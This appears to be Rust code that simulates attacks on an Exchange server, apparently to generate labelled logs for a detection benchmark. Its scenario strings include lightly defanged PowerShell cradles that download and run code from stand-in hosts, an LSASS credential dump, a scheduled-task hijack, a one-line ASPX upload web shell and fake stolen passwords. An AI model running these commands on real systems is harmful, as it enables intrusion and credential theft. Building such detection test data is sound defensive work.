//! How attacks of the unseen set go up to a page and its use.

use super::super::Habits;
use super::{MARTEN_ELSEWHERE, estate, pages};
use crate::attack::directory::{ADDRESS_BOOK, ADMIN_CENTRE};
use crate::attack::odd_page::OddPage;
use crate::attack::page_use::Processes;
use crate::attack::{Attack, Intruder, Page};
use crate::event::make::{self, CommandLines};
use crate::format::management::{self, Origin};
use crate::format::process::ProcessLogs;
use crate::format::task::Task;
use crate::format::web::{self, Back, Request};
use crate::format::{config, page, whole};
use crate::moment::{DAY, MINUTE, SECOND};
use crate::program::CMD;
use crate::scenario::at;
use crate::server::{Encoding, Mark, Server};
use crate::technique::Technique;
use crate::truth::{ActorKind, Weight};

pub(super) const BLIND: ProcessLogs = ProcessLogs::Audit(CommandLines::LeftOut);

/// Three nights: one to learn who is there, one of another cookie from elsewhere, one of everything.
pub(super) fn mail_read(server: &mut Server, habits: &'static Habits) {
    estate::ordinary(server, habits, ProcessLogs::Neither);
    let mut attack = Attack::begin(server, habits.intruders[0], ActorKind::Intruder, at(habits, 0, 22, 12));
    attack.guess(9);
    attack.locate();
    attack.read_mail(17);
    let actor = attack.actor;
    let mut attack = Attack::resume(server, &MARTEN_ELSEWHERE, actor, at(habits, 3, 23, 4));
    attack.by_cookie("/EWS/Exchange.asmx", 58, 200);
    attack.time = at(habits, 6, 22, 31);
    attack.take_address_book();
    attack.read_mail(121);
}

/// Refused on Friday, let in on Saturday, and never seen again.
pub(super) fn session_only(server: &mut Server, habits: &'static Habits) {
    estate::ordinary(server, habits, BLIND);
    let mut attack = Attack::begin(server, habits.intruders[1], ActorKind::Intruder, at(habits, 4, 11, 47));
    attack.look(&[("/owa/auth/logon.aspx", Some("Owa"), 200), ("/aspnet_client/", None, 403)]);
    attack.locate();
    for _ in 0..3 {
        attack.fail("/ecp/proxyLogon.ecp", 403);
    }
    attack.time = at(habits, 5, 15, 8);
    attack.locate();
    attack.take_session();
}

/// A page by the admin centre's directory, left alone for a week; then used by two nights on a server that keeps no record
/// but the older one of PowerShell, the firewall's and a scanner's.
pub(super) fn url_page(server: &mut Server, habits: &'static Habits) {
    estate::ordinary(server, habits, ProcessLogs::Neither);
    let who = habits.intruders[0];
    let mut attack = Attack::begin(server, who, ActorKind::Intruder, at(habits, 0, 2, 53));
    attack.locate();
    attack.take_session();
    let [first, second] = who.pages else { return };
    attack.plant_by_directory(first, &page::one_line(who.item), &ADMIN_CENTRE);
    attack.page_failed(
        (Technique::ShellUse, Weight::Supporting),
        first,
        ("HttpParseException", "Unexpected end of file looking for </script> tag."),
    );
    let actor = attack.actor;
    let mut attack = Attack::resume(server, &MARTEN_ELSEWHERE, actor, at(habits, 7, 1, 19));
    by_powershell(&mut attack, first);
    attack.lay_page(second, &page::one_line("snv"), attack.time);
    attack.time = attack.time.plus(6 * MINUTE);
    attack.use_page(second, Processes::Unknown);
    let path = second.path(&attack.server.host);
    attack.time = at(habits, 8, 4, 2);
    attack.found_by_symantec("Back¦door.Trojan!gm", &path);
    attack.server.lose(|lost, _| lost == path);
    attack.time = at(habits, 9, 0, 41);
    attack.miss_page(second, 2);
    attack.use_page(first, Processes::Unknown);
}

/// What the older PowerShell notes of that night, and the firewall of where it went.
fn by_powershell(attack: &mut Attack<'_>, page: &Page) {
    let keys = attack.visit(page);
    attack.ask(page, "POST", 200, keys);
    let must = |technique| (technique, Weight::Must);
    attack.old_engine(
        must(Technique::Download),
        "4.0",
        "powershell -nop -w 1 -c $w=new-object net.web¦client;$w.headers.add('x','1');i¦ex $w.download¦string('http://203.0.113.158:8088/l.txt')",
        Some((
            "$w=new-object net.web¦client;$w.headers.add('x','1');i¦ex $w.download¦string('http://203.0.113.158:8088/l.txt')",
            &[("New-Object", "net.web¦client"), ("Invoke-Expression", "function Get-Local { net localgroup administrators }")],
        )),
    );
    attack.let_out((Technique::Download, Weight::Supporting), ("203.0.113.158", 8_088));
    attack.time = attack.time.plus(4 * MINUTE);
    attack.ask(page, "POST", 200, keys);
    attack.old_engine(
        must(Technique::CredentialDump),
        "4.0",
        "powershell -nop -c rundll32 C:\\Windows\\System32\\coms¦vcs.dll, Mini¦Dump (Get-Process lsa¦ss).Id C:\\Windows\\Temp\\mpam.bin full",
        None,
    );
    attack.time = attack.time.plus(3 * MINUTE);
    attack.ask(page, "POST", 200, keys);
    attack.old_engine(
        must(Technique::ScriptRun),
        "2.0",
        "powershell -version 2 -nop -e JABzAD0AJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AMQA1ADgAOgA4ADAAOAA4AC8AbQAnAA==",
        None,
    );
    attack.let_out((Technique::ScriptRun, Weight::Supporting), ("203.0.113.158", 8_088));
    attack.time = attack.time.plus(2 * MINUTE);
}

/// A page by the address book's download; three days later somebody else uses it, and Defender at last finds it.
pub(super) fn address_book_page(server: &mut Server, habits: &'static Habits) {
    estate::ordinary(server, habits, ProcessLogs::Neither);
    let (page, text) = habits.written;
    let mut attack = Attack::begin(server, habits.intruders[1], ActorKind::Intruder, at(habits, 0, 13, 25));
    attack.locate();
    attack.take_session();
    attack.write_by_address_book(&page, &whole(text));
    attack.use_page(&page, Processes::Unknown);
    let mut attack = Attack::begin(server, habits.intruders[2], ActorKind::Intruder, at(habits, 3, 8, 50));
    attack.use_page(&page, Processes::Unknown);
    attack.scripts(&[(
        Technique::Download,
        "$u='http://203.0.113.66/pf.ps1'; $r=[Net.WebRequest]::Create($u); $r.Proxy=[Net.WebRequest]::GetSystemWebProxy(); i¦ex (New-Object IO.Stream¦Reader($r.GetResponse().GetResponseStream())).ReadToEnd()",
    )]);
    attack.module_logged(
        (Technique::Download, Weight::Must),
        "powershell.exe -nop -w hidden -c -",
        "CommandInvocation(Invoke-Web¦Request): \"Invoke-Web¦Request\"\r\nParameterBinding(Invoke-Web¦Request): name=\"Uri\"; value=\"http://203.0.113.66/pf.exe\"\r\nParameterBinding(Invoke-Web¦Request): name=\"OutFile\"; value=\"C:\\Users\\Public\\pf.exe\"\r\n",
    );
    attack.slowed_down("powershell.exe", "C:\\Users\\Public\\pf.exe");
    let path = page.path(&attack.server.host);
    attack.time = at(habits, 5, 2, 16);
    attack.found_by_both(habits.aftermath.threat, &path);
    attack.server.lose(|lost, _| lost == path);
}

/// The voice service's worker starts a shell that has a transfer bring a program, then one that bends a task of the house.
pub(super) fn voice(server: &mut Server, habits: &'static Habits) {
    estate::ordinary(server, habits, BLIND);
    let mut attack = Attack::begin(server, habits.intruders[1], ActorKind::Intruder, at(habits, 0, 23, 36));
    let command = whole(habits.voice_command);
    attack.deserialise(&command);
    let transfer = command.strip_prefix("cmd.exe /c start /min ").unwrap_or_default().to_owned();
    let program = "C:\\Windows\\System32\\bitsadmin.exe";
    attack.child((CMD, &command), (program, &transfer), (Technique::Download, Weight::Supporting));
    attack.brought_in_background(
        (Technique::Download, Weight::Must),
        "umlang",
        program,
        "http://192.0.2.117/um/en-GB.cab",
    );
    attack.time = attack.time.plus(21 * MINUTE);
    let change = whole(
        "cmd.exe /c sch¦tasks /change /tn \"win-acme renew (acme-v02.api.letsencrypt.org)\" /tr C:\\Windows\\Temp\\en-GB.exe /ru SYSTEM",
    );
    attack.deserialise(&change);
    let line = change.strip_prefix("cmd.exe /c ").unwrap_or_default().to_owned();
    let program = "C:\\Windows\\System32\\schtasks.exe";
    attack.child((CMD, &change), (program, &line), (Technique::ScheduledTask, Weight::Supporting));
    let action = "C:\\Windows\\Temp\\en-GB.exe";
    let author = format!("{}\\{}", attack.server.host.netbios, attack.server.host.admin);
    let path = "win-acme renew (acme-v02.api.letsencrypt.org)";
    let task = Task { path, author: &author, command: action, arguments: "", every: 1440 };
    let bent = attack.time;
    attack.bend_task(&task);
    let runs: Vec<_> = (1..4).map(|day| bent.plus(day * DAY)).collect();
    attack.task_runs(path, action, &runs);
    for run in runs {
        attack.time = run.plus(300);
        let scheduler = "C:\\Windows\\System32\\svchost.exe";
        let command = "C:\\Windows\\system32\\svchost.exe -k netsvcs";
        attack.child((scheduler, command), (action, action), (Technique::ScheduledTask, Weight::Supporting));
    }
}

/// The dealer's page, looked at once; its buyer, who uses it and plants one of their own; and one who comes by way of
/// another server of the house.
pub(super) fn three_intruders(server: &mut Server, habits: &'static Habits) {
    estate::ordinary(server, habits, ProcessLogs::Neither);
    let [patient, dealer, buyer] = habits.intruders;
    let mut attack = Attack::begin(server, dealer, ActorKind::Intruder, at(habits, 0, 4, 11));
    attack.locate();
    attack.take_session();
    for sold in dealer.pages {
        attack.plant_by_directory(sold, &page::one_line(dealer.item), &ADDRESS_BOOK);
        attack.use_page(sold, Processes::Unknown);
    }
    let mut attack = Attack::begin(server, buyer, ActorKind::Intruder, at(habits, 2, 18, 33));
    for (sold, own) in dealer.pages.iter().zip(buyer.pages) {
        attack.use_page(sold, Processes::Unknown);
        attack.lay_page(own, &whole("<%@ Page Language=\"C#\" %><%if(Req¦uest.Files.Count>0)Req¦uest.Files[0].Save¦As(Req¦uest.Form[\"srv_ctl\"]);%>"), attack.time);
        attack.time = attack.time.plus(3 * DAY);
        attack.use_page(own, Processes::Unknown);
    }
    from_beside(server, patient, at(habits, 4, 22, 58));
    for (who, start) in habits.probers.into_iter().zip([at(habits, 1, 6, 20), at(habits, 4, 17, 2)]) {
        let mut attack = Attack::begin(server, who, ActorKind::Prober, start);
        attack.fail("/autodiscover/autodiscover.xml", 500);
        attack.by_cookie("/EWS/Exchange.asmx", 1, 401);
    }
}

/// Management commands of an account that was taken on another server, by the shell for remote work: a mailbox is exported
/// to a file with a page's ending, which then is used from outside.
fn from_beside(server: &mut Server, who: &'static Intruder, start: crate::moment::Moment) {
    const BESIDE: &str = "10.20.5.13";
    let actor = server.actor(ActorKind::Intruder, &[BESIDE, "203.0.113.158"]);
    let mut attack = Attack::resume(server, who, actor, start);
    let host = attack.server.host;
    let user = format!("{}\\svc_veeam", host.netbios);
    let page = Page { place: pages::CLIENT, name: "discover_prod.aspx" };
    let file = page.path(&host).replace("C:\\", "\\\\ELB-EX16\\C$\\");
    let steps = [
        (
            Technique::MailboxAccess,
            "New-ManagementRoleAssignment",
            "-Role \"Mailbox Import Ex¦port\" -User \"svc_veeam\" -Name \"Mailbox Import Export-svc_veeam\"".to_owned(),
        ),
        (
            Technique::MailboxExport,
            "New-MailboxExportRequest",
            format!(
                "-Mailbox \"empfang\" -IncludeFolders \"#Drafts#\" -ContentFilter \"Subject -eq 'wsid'\" -FilePath \"{file}\""
            ),
        ),
        (
            Technique::LogDeletion,
            "Remove-MailboxExportRequest",
            "-Identity \"empfang\\MailboxExport\" -Confirm \"False\"".to_owned(),
        ),
    ];
    for (technique, name, parameters) in steps {
        let parameters = whole(&parameters);
        let weight = if technique == Technique::LogDeletion { Weight::Supporting } else { Weight::Must };
        let mark = attack.mark((technique, weight), format!("{name} {parameters}, from {BESIDE}"));
        shell_request(&mut attack, BESIDE, &user, &mark.lesser());
        let key = attack.server.key(mark.clone());
        let by = format!("{}/Dienstkonten/svc_veeam", host.domain);
        attack.server.event(make::command_logged(&host, attack.time, name, &parameters, &by, ""), Some(key));
        let key = attack.server.same_act(key, mark.lesser());
        let command = management::Command { origin: Origin::Remote, user: &user, name, parameters: &parameters };
        management::command(attack.server, attack.time, &command, Some(key));
        if technique == Technique::MailboxExport {
            let text = format!("!BDN\u{1a}SM\u{17}\u{13}{}\u{0}\u{0}", whole(pages::SHARED));
            attack.time = attack.time.plus(50 * SECOND);
            let sort = (Technique::ShellFile, Weight::Supporting);
            let own = host.machine_account();
            attack.written_by_share(sort, &own, host.link_local, &page.path(&host));
            attack.lay_page(&page, &text, attack.time);
        }
        attack.time = attack.time.plus(4 * MINUTE);
    }
    attack.time = attack.time.plus(20 * MINUTE);
    attack.use_page(&page, Processes::Unknown);
}

/// A request of the shell for remote work.
fn shell_request(attack: &mut Attack<'_>, client: &str, user: &str, mark: &Mark) {
    let host = attack.server.host;
    let name = host.full_name();
    let stem = "/powershell";
    let query = "serializationLevel=Full;ExchClientVer=15.1.1913.5;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.14393.3866";
    let request = Request {
        time: attack.time,
        client,
        mail_name: &name,
        protocol: Some("PowerShell"),
        method: "POST",
        stem,
        query,
        user: Some(user),
        auth: "Kerberos",
        agent: "Microsoft WinRM Client",
        anchor: "ServerVersion~Version 15.1 (Build 1913.0)",
        hint: "WindowsIdentity",
        back_status: Some(200),
        back: Some(Back { stem: "/PowerShell/", query, user, status: 200 }),
        sizes: (4_120, 2_866),
        ..Request::default()
    };
    web::record(attack.server, &request, Some(mark));
    attack.time = attack.time.plus(2 * SECOND);
}

/// The pages come one each night; by the last night all of them are asked for.
pub(super) fn odd_code(server: &mut Server, habits: &'static Habits) {
    estate::ordinary(server, habits, ProcessLogs::Neither);
    let mut attack = Attack::begin(server, habits.intruders[2], ActorKind::Intruder, at(habits, 0, 0, 24));
    attack.locate();
    attack.take_session();
    for (number, odd) in (0i64..).zip(habits.odd_code) {
        attack.time = at(habits, number / 3, 1, 10).plus(number % 3 * 17 * MINUTE);
        attack.hide(odd);
    }
    attack.time = at(habits, 4, 2, 5);
    ask(&mut attack, habits.odd_code, &["POST", "GET", "POST"]);
    let Some(found) = habits.odd_code.iter().find(|odd| odd.page.name == "lookup.asmx") else { return };
    attack.time = at(habits, 5, 3, 30);
    let path = found.page.path(&attack.server.host);
    attack.found_by_endpoint("Back¦door:ASP/WebSh¦ell.B", &path);
    attack.server.lose(|lost, _| lost == path);
}

/// Laid within minutes by day, asked for by night; the last lies behind a folder that was added to the site.
pub(super) fn odd_places(server: &mut Server, habits: &'static Habits) {
    estate::ordinary(server, habits, ProcessLogs::Neither);
    let mut attack = Attack::begin(server, habits.intruders[0], ActorKind::Intruder, at(habits, 0, 12, 20));
    attack.locate();
    attack.take_session();
    for odd in habits.odd_places {
        attack.hide(odd);
    }
    let (path, text) = pages::HELP_PAGE;
    attack.lay_text((Technique::ShellFile, Weight::Must), path, text);
    let about = "a folder outside is added to the site as /help";
    let key = attack.server.key(attack.mark((Technique::HandlerChange, Weight::Must), about));
    let folder = path.rsplit_once('\\').map_or(path, |(folder, _)| folder);
    config::shared_folder(attack.server, attack.time, ("/help", folder, key));
    let host = attack.server.host;
    for (name, text) in [pages::MARKER, pages::COMPILED] {
        attack.lay_text((Technique::ShellFile, Weight::Supporting), &host.rooted(name), text);
    }
    attack.time = at(habits, 2, 23, 47);
    ask(&mut attack, habits.odd_places, &["POST", "POST"]);
    let others = [OddPage::new(pages::HELP, "index.aspx", "", ""), OddPage::new(pages::ROOT, pages::MARKER.0, "", "")];
    ask(&mut attack, &others, &["GET", "POST"]);
    attack.time = at(habits, 4, 19, 0);
    let kept = "ELBWERFT\\a.brandes|Sommer2020!\r\nELBWERFT\\einkauf|Werft-77\r\n";
    let mark = attack.mark((Technique::SignInCapture, Weight::Supporting), "what the sign-in page has kept");
    let key = attack.server.key(mark);
    let time = attack.time;
    attack.server.text("C:\\Windows\\Temp\\~DF7A91.tmp", kept, Encoding::Plain, time, &[]);
    attack.server.tie("C:\\Windows\\Temp\\~DF7A91.tmp", key);
}

fn ask(attack: &mut Attack<'_>, all: &[OddPage], methods: &[&str]) {
    let is_asked_for = |name: &str| [".aspx", ".ashx", ".asmx", ".soap"].iter().any(|end| name.ends_with(end));
    attack.ask_for_each(all, is_asked_for, methods, (20, 400));
}
